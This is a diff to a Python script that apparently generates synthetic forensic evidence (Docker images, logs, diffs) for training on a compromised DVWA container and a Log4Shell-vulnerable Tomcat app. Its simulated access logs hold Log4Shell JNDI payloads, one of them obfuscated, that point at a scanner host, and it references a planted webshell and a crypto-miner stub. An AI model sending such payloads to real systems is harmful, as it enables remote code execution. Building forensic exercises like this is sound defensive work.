@@ -169,22 +169,32 @@ def tar_bytes(entries: list[E]) -> bytes:
     return bytes(out)
 
 
-def layer(entries: list[E], dir_mtime: int, dir_meta: dict | None = None) -> list[E]:
+def layer(entries: list[E], dir_mtime: int, lower: dict[str, E] | None = None) -> list[E]:
     """Complete a layer with its parent directories (an overlay upper dir holds every
-    parent of a changed path) and put it in walk order. dir_meta: path -> (mode, uid, gid,
-    mtime) for parents that keep their lower metadata."""
-    dir_meta = dir_meta or {}
-    have = {e.name for e in entries if e.kind == "d"}
-    extra = []
+    parent of a changed path) and put it in walk order. A parent that exists in `lower`
+    (the merged view under this layer) is a copy-up: it keeps its metadata, except that a
+    directory whose own entries changed (a child added or deleted) takes the newest such
+    child's mtime, as the kernel sets it. A new parent gets `dir_mtime`."""
+    lower = lower or {}
+    explicit = {e.name: e for e in entries if e.kind == "d"}
+    needed = set()
     for e in entries:
         parts = e.name.split("/")
-        top = len(parts) if e.kind == "o" else len(parts) - 1
-        for i in range(1, top + 1):
-            p = "/".join(parts[:i])
-            if p not in have:
-                have.add(p)
-                mode, uid, gid, mtime = dir_meta.get(p, (0o755, 0, 0, dir_mtime))
-                extra.append(E(p, "d", mode=mode, uid=uid, gid=gid, mtime=mtime))
+        for i in range(1, len(parts)):
+            needed.add("/".join(parts[:i]))
+    children: dict[str, list[E]] = {}
+    for e in entries:
+        children.setdefault(e.name.rpartition("/")[0], []).append(e)
+    extra = []
+    for p in sorted(needed - explicit.keys(), key=lambda p: -p.count("/")):
+        if p in lower:
+            lo = lower[p]
+            changed = [c.mtime for c in children.get(p, []) if c.kind in "wo" or c.name not in lower]
+            d = E(p, "d", mode=lo.mode, uid=lo.uid, gid=lo.gid, mtime=max(changed) if changed else lo.mtime)
+        else:
+            d = E(p, "d", mtime=dir_mtime)
+        extra.append(d)
+        children.setdefault(p.rpartition("/")[0], []).append(d)
     return sorted(entries + extra, key=walk_key)
 
 
@@ -244,8 +254,7 @@ def init_layer(created: int, lower: dict[str, E]) -> list[E]:
         E("etc/mtab", "l", link="/proc/mounts", mtime=created),
     ]
     new = [e for e in want if e.name not in lower]
-    meta = {p: (e.mode, e.uid, e.gid, created) for p, e in lower.items() if e.kind == "d"}
-    return layer(new, created, meta)
+    return layer(new, created, lower)
 
 
 def export_tar(view: dict[str, E]) -> bytes:
@@ -423,6 +432,7 @@ def combined(ip, when, req, status, size, ref, ua) -> str:
 # ---------------------------------------------------------------------------------------
 
 WRITTEN: dict[str, list[str]] = {}
+FACTS: dict[str, list[tuple[str, str]]] = {}
 
 
 def write(bundle: str, rel: str, data: bytes | str) -> None:
@@ -440,7 +450,8 @@ def update_readme() -> None:
     with open(path, encoding="utf-8") as f:
         text = f.read()
     for bundle, files in WRITTEN.items():
-        rows = ["| file | bytes | sha256 |", "|---|---:|---|"]
+        rows = [f"- {label}: `{value}`" for label, value in FACTS.get(bundle, [])]
+        rows += ["", "| file | bytes | sha256 |", "|---|---:|---|"]
         for rel in sorted(files):
             with open(os.path.join(HERE, bundle, rel), "rb") as f:
                 data = f.read()
@@ -682,7 +693,7 @@ def dvwa_layers():
         E("var/log/mysql", "d", mode=0o2750, uid=101, gid=adm, mtime=b),
         E("var/spool/cron/crontabs", "d", mode=0o1730, gid=102, mtime=b),
         E("var/www/html/index.html", data="<!DOCTYPE html>\n<html><head><title>Apache2 Debian Default Page: It works</title></head>\n<body>It works!</body></html>\n", mtime=b),
-    ], b)
+    ], b, merged([l1]))
     c = t("2026-11-10T08:15:02")
     dv = lambda p, data: E("var/www/html/" + p, data=data, uid=33, gid=33, mtime=c)  # noqa: E731
     l3 = layer([
@@ -699,9 +710,9 @@ def dvwa_layers():
         dv("setup.php", "<?php\n// Create / Reset Database\n?>\n"),
         dv("vulnerabilities/exec/index.php", "<?php\ndefine( 'DVWA_WEB_PAGE_TO_ROOT', '../../' );\n$vulnerabilityFile = 'low.php';\nrequire_once DVWA_WEB_PAGE_TO_ROOT . \"vulnerabilities/exec/source/{$vulnerabilityFile}\";\n?>\n"),
         dv("vulnerabilities/exec/source/low.php", LOW_PHP),
-    ], c, {"var": (0o755, 0, 0, b), "var/www": (0o755, 0, 0, b)})
+    ], c, merged([l1, l2]))
     d = t("2026-11-10T08:15:09")
-    l4 = layer([E("main.sh", data=MAIN_SH, mode=0o755, mtime=t("2026-11-10T08:12:55"))], d)
+    l4 = layer([E("main.sh", data=MAIN_SH, mode=0o755, mtime=t("2026-11-10T08:12:55"))], d, merged([l1, l2, l3]))
     bk = "buildkit.dockerfile.v0"
     history = [
         {"created": "2026-11-04T01:21:37.528194702Z", "created_by": "/bin/sh -c #(nop) ADD file:b2d61a5c0f8e3d4c7a9e1f2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d in / "},
@@ -771,6 +782,8 @@ def dvwa_traffic():
         (t("2026-11-27T09:31:03"), combined(user, t("2026-11-27T09:31:03"), "GET /dvwa/css/login.css HTTP/1.1", 200, 547, f"{site}/login.php", chrome)),
         (t("2026-11-27T09:31:15"), combined(user, t("2026-11-27T09:31:15"), "POST /login.php HTTP/1.1", 302, 398, f"{site}/login.php", chrome)),
         (t("2026-11-27T09:31:15"), combined(user, t("2026-11-27T09:31:15"), "GET /index.php HTTP/1.1", 200, 7245, f"{site}/login.php", chrome)),
+        # A TLS ClientHello sent to the plain-HTTP port: Apache logs the bytes \xNN-escaped.
+        (t("2026-11-27T13:47:03"), combined(SCANNER, t("2026-11-27T13:47:03"), r"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\x9c\x1f\xd2\x8e\x06\xb7i\xa2\x11\xf0", 400, 0, "-", "-")),
         (t("2026-11-27T13:47:05"), combined(SCANNER, t("2026-11-27T13:47:05"), "GET / HTTP/1.1", 302, 398, "-", f"${{jndi:ldap://{SCANNER}:1389/Exploit}}")),
         (t("2026-11-27T13:47:06"), combined(SCANNER, t("2026-11-27T13:47:06"), "GET /login.php HTTP/1.1", 200, 1839, f"${{jndi:dns://{SCANNER}/ref}}", f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{SCANNER}:1389/a}}")),
     ]
@@ -854,7 +867,6 @@ def dvwa_logs(acc, err) -> Log:
 
 def dvwa_commit_layer(lower: dict[str, E], acc, err) -> list[E]:
     """The container's read-write layer at commit time (overlay2 upper dir as moby tars it)."""
-    meta = {p: (e.mode, e.uid, e.gid, e.mtime) for p, e in lower.items() if e.kind == "d"}
     access = "".join(line + "\n" for _, line in acc).encode()
     error = "".join(line + "\n" for _, line in err).encode()
     miner = elf_stub("kdevtmpfsi", ["XMRig 6.21.0", MINER_URL, MINER_WALLET, "--donate-level", "randomx"])
@@ -885,7 +897,7 @@ def dvwa_commit_layer(lower: dict[str, E], acc, err) -> list[E]:
         E("var/www/html/hackable/uploads", "d", uid=33, gid=33, mtime=t("2026-11-27T14:06:21")),
         E("var/www/html/hackable/uploads/shell.php", data=WEBSHELL_PHP, uid=33, gid=33, mtime=t("2026-11-27T14:06:21")),
     ]
-    return layer(entries, 0, meta)
+    return layer(entries, 0, lower)
 
 
 def dvwa_processes() -> list[list[str]]:
@@ -1003,6 +1015,8 @@ def build_dvwa() -> None:
     }
     all_layers = layers + [rw]
     cfg = dvwa_image_config(all_layers, history, commit_hist, commit=True)
+    FACTS["dvwa"] = [("container id", DVWA_ID), ("image the container ran (`sagikazarmark/dvwa`, inspect `Image`)", base_id),
+                     ("committed image (`ir-evidence/dvwa:2026-11-27`)", "sha256:" + sha256(cfg))]
     write("dvwa", "image.tar", save_legacy(cfg, [tar_bytes(l) for l in all_layers], DVWA_COMMIT[0], "ir-evidence/dvwa", "2026-11-27"))
     write("dvwa", "export.tar", export_tar(merged(layers + [init, rw])))
     write("dvwa", "diff.txt", docker_diff(lower, rw))
@@ -1143,7 +1157,7 @@ def l4s_layers():
         E("var/log/apt/history.log", data="\nStart-Date: 2018-11-16  01:02:11\nCommandline: apt-get install -y openjdk-8-jre-headless=8u181-b13-2~deb9u1\nInstall: openjdk-8-jre-headless:amd64 (8u181-b13-2~deb9u1)\nEnd-Date: 2018-11-16  01:02:40\n", mtime=j),
         E("var/log/apt/term.log", data="\nLog started: 2018-11-16  01:02:11\nSetting up openjdk-8-jre-headless:amd64 (8u181-b13-2~deb9u1) ...\nLog ended: 2018-11-16  01:02:40\n", mtime=j),
         E("var/log/dpkg.log", data="2018-11-13 00:00:00 startup archives install\n2018-11-16 01:02:39 status installed openjdk-8-jre-headless:amd64 8u181-b13-2~deb9u1\n", mtime=j),
-    ], j)
+    ], j, merged([l1]))
     tc = t("2018-11-16T04:11:09")
     tom = "usr/local/tomcat/"
     jar = lambda name: zip_bytes([("META-INF/MANIFEST.MF", f"Manifest-Version: 1.0\r\nImplementation-Title: {name}\r\nImplementation-Version: 8.5.35\r\n\r\n".encode())], (2018, 11, 3, 17, 39, 20))  # noqa: E731
@@ -1165,14 +1179,14 @@ def l4s_layers():
         E(tom + "webapps/examples/jsp/snp/snoop.jsp", data="<%= request.getRemoteAddr() %>\n", mtime=tc),
         E(tom + "webapps/manager/WEB-INF/web.xml", data="<web-app><display-name>Tomcat Manager Application</display-name></web-app>\n", mtime=tc),
         E(tom + "work", "d", mode=0o777, mtime=tc),
-    ], tc)
+    ], tc, merged([l1, l2]))
     b = t("2021-12-08T16:41:20")
     combined_xml = SERVER_XML_HEAD + '        <Valve className="org.apache.catalina.valves.AccessLogValve" directory="logs"\n               prefix="localhost_access_log" suffix=".txt"\n               pattern="combined" />\n' + SERVER_XML_TAIL
     l4 = layer([
         E(tom + "conf/server.xml", data=combined_xml, mtime=b),
         E(tom + "webapps", "d", mtime=b),
         E(tom + "webapps", "o", mtime=b),
-    ], b)
+    ], b, merged([l1, l2, l3]))
     a = t("2021-12-08T16:41:22")
     src = t("2021-12-08T16:39:58")
     root = tom + "webapps/ROOT/"
@@ -1220,7 +1234,7 @@ def l4s_layers():
         E(root + "WEB-INF/lib/log4j-api-2.14.1.jar", data=log4j_api, mtime=src),
         E(root + "WEB-INF/lib/log4j-core-2.14.1.jar", data=log4j_core, mtime=src),
         E(root + "WEB-INF/web.xml", data=web_xml, mtime=src),
-    ], a)
+    ], a, merged([l1, l2, l3, l4]))
     bk = "buildkit.dockerfile.v0"
     history = [
         {"created": "2018-11-15T22:19:56.823469017Z", "created_by": "/bin/sh -c #(nop) ADD file:dab9baf938799c515ddce14c02f899da5992f0b76a432fa10a2338556a3cb04f in / "},
@@ -1414,7 +1428,6 @@ def l4s_logs():
 
 
 def l4s_commit_layer(lower: dict[str, E], catalina, access) -> list[E]:
-    meta = {p: (e.mode, e.uid, e.gid, e.mtime) for p, e in lower.items() if e.kind == "d"}
     tom = "usr/local/tomcat/"
     work = tom + "work/Catalina/localhost/ROOT/org/apache/jsp/"
     boot = t("2026-11-20T08:30:12")
@@ -1456,7 +1469,7 @@ def l4s_commit_layer(lower: dict[str, E], catalina, access) -> list[E]:
         last = lines[-1]
         mt = calendar.timegm(datetime.datetime.strptime(last[:20], "%d-%b-%Y %H:%M:%S").timetuple())
         entries.append(E(tom + f"logs/catalina.{day}.log", data="".join(x + "\n" for x in lines), mode=0o640, mtime=mt))
-    return layer(entries, 0, meta)
+    return layer(entries, 0, lower)
 
 
 def l4s_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
@@ -1573,6 +1586,8 @@ def build_log4shell() -> None:
     }
     all_layers = layers + [rw]
     cfg = l4s_image_config(all_layers, history, commit_hist)
+    FACTS["log4shell"] = [("container id", L4S_ID), (f"image the container ran (`{L4S_IMAGE}`, inspect `Image`)", base_id),
+                          ("committed image (`ir-evidence/log4shell-app:2026-11-27`)", "sha256:" + sha256(cfg))]
     write("log4shell", "image.tar", save_oci(cfg, [tar_bytes(l) for l in all_layers], L4S_COMMIT[0], "ir-evidence/log4shell-app", "2026-11-27"))
     write("log4shell", "export.tar", export_tar(merged(layers + [init, rw])))
     write("log4shell", "diff.txt", docker_diff(lower, rw))
